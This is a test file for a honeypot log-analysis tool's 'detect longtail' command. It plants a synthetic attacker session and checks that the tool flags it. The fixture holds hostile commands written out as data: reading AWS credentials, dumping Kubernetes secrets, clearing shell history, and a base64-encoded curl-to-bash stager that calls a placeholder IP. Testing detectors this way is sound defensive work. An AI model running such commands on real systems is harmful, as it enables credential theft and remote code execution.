import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DbPool, requirePostgres, testDialects, type CliTestDb, type Dialect } from './support/dialects.js';
import { REPO_ROOT, makeTempDir, parseJsonObject, removeTempDir, runCli, show } from './support/run-cli.js';

const SAMPLE = join(REPO_ROOT, 'examples/sample/cowrie.json');
const NOVEL = { sensor: 'hp-fra-01', session: 'c0ffee000001', ip: '198.51.100.200' };
const BLOB = 'Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43Ny9zdGFnZTIuc2ggfCBiYXNoIC1zIC0tIC0tc2lsZW50';

/** One novel session (never-seen commands, an encoded stager) on the sample's last day. */
function novelLog(): string {
  let ms = Date.parse('2025-12-03T12:00:00Z');
  const ev = (eventid: string, extra: Record<string, unknown>) => {
    ms += 2000;
    return JSON.stringify({ eventid, ...extra, sensor: NOVEL.sensor, session: NOVEL.session, src_ip: NOVEL.ip, timestamp: new Date(ms).toISOString().replace('Z', '000Z') });
  };
  const commands = ['cat ~/.aws/credentials', 'kubectl get secrets -A -o json', `echo ${BLOB} | base64 -d | bash`, 'docker ps -a --no-trunc', 'history -c'];
  return [
    ev('cowrie.session.connect', { src_port: 40001, dst_ip: '172.18.0.2', dst_port: 2222, protocol: 'ssh' }),
    ev('cowrie.login.success', { username: 'root', password: 'root' }),
    ...commands.map((input) => ev('cowrie.command.input', { input })),
    ev('cowrie.session.closed', { duration: 14 }),
  ].join('\n') + '\n';
}

interface LongtailJson {
  rareCommands: Array<{ id: string; command: string; count: number; sessions: number; examples: string[] }>;
  anomalousSessions: Array<{ id: string; sensor: string; session: string; score: number; reasons: string[] }>;
  highEntropy: Array<{ encoding: string; sessionKeys: string[] }>;
  stats: { sessions: number; featuresExtracted: number; featuresReused: number };
  runId: string | null;
  seconds: number;
}

/** `cowrie detect longtail` on the sample log plus one planted novel session, on each dialect. */
describe.each(testDialects())('cowrie detect longtail on %s', (dialect: Dialect) => {
  let dir: string;
  const pool = new DbPool(dialect, () => dir);
  let db: CliTestDb;
  let unreachable: Error | undefined;
  const run = (...args: string[]) => runCli([...args, '--db', db.target], { cwd: dir });

  beforeAll(async () => {
    dir = await makeTempDir();
    if (dialect === 'postgres') unreachable = await requirePostgres().then(() => undefined, (e: Error) => e);
    if (unreachable) return;
    db = pool.create('longtail');
    await writeFile(join(dir, 'novel.json'), novelLog());
    const load = await run('load', 'bulk', SAMPLE, join(dir, 'novel.json'), '--json');
    expect(load.code, show(load)).toBe(0);
  });
  beforeEach(() => {
    if (unreachable) throw unreachable;
  });
  afterAll(async () => {
    try {
      if (!unreachable) await pool.dropAll();
    } finally {
      await removeTempDir(dir);
    }
  });

  it('--json: the planted session is the top anomaly, its commands are rare (original inputs as examples), the stager is high-entropy (exit 0)', async () => {
    const r = await run('detect', 'longtail', '--json', '--backend', 'js');
    expect(r.code, show(r)).toBe(0);
    const j = parseJsonObject(r) as unknown as LongtailJson;
    expect(typeof j.seconds).toBe('number');
    expect(j.anomalousSessions[0]).toMatchObject({ sensor: NOVEL.sensor, session: NOVEL.session });
    expect(j.anomalousSessions[0]!.reasons.length).toBeGreaterThan(0);
    const scores = j.anomalousSessions.map((a) => a.score);
    expect([...scores].sort((a, b) => b - a)).toEqual(scores);
    const aws = j.rareCommands.find((c) => c.command === 'cat ~/.aws/credentials');
    expect(aws).toMatchObject({ count: 1, sessions: 1, examples: ['cat ~/.aws/credentials'] });
    const rarity = j.rareCommands.map((c) => c.sessions);
    expect([...rarity].sort((a, b) => a - b)).toEqual(rarity);
    expect(j.highEntropy.find((h) => h.sessionKeys.includes(`${NOVEL.sensor}/${NOVEL.session}`))?.encoding).toBe('base64');
  });

  it('reuses cached features on a re-run, and --store keeps finding ids stable', async () => {
    const a = parseJsonObject(await run('detect', 'longtail', '--json', '--store')) as unknown as LongtailJson;
    const b = parseJsonObject(await run('detect', 'longtail', '--json', '--store')) as unknown as LongtailJson;
    expect(b.stats.featuresExtracted).toBe(0);
    expect(b.stats.featuresReused).toBe(b.stats.sessions);
    expect(b.anomalousSessions.map((x) => x.id)).toEqual(a.anomalousSessions.map((x) => x.id));
    expect(b.rareCommands.map((x) => x.id)).toEqual(a.rareCommands.map((x) => x.id));
    expect(a.runId).toBeTruthy();
    expect(b.runId).not.toBe(a.runId);
  });

  it('human output names the sections; exit 1 on an empty window, 2 on a bad one', async () => {
    const human = await run('detect', 'longtail', '--no-cache');
    expect(human.code, show(human)).toBe(0);
    expect(human.stdout).toMatch(/Rare commands .*\n/);
    expect(human.stdout).toContain(`${NOVEL.sensor}/${NOVEL.session}`);
    const none = await run('detect', 'longtail', '--since', '2020-01-01', '--until', '2020-01-02', '--json');
    expect(none.code, show(none)).toBe(1);
    expect(parseJsonObject(none).anomalousSessions).toEqual([]);
    const bad = await run('detect', 'longtail', '--since', 'yesterday');
    expect(bad.code, show(bad)).toBe(2);
    expect(bad.stderr).toMatch(/^cowrie: /);
  });
});
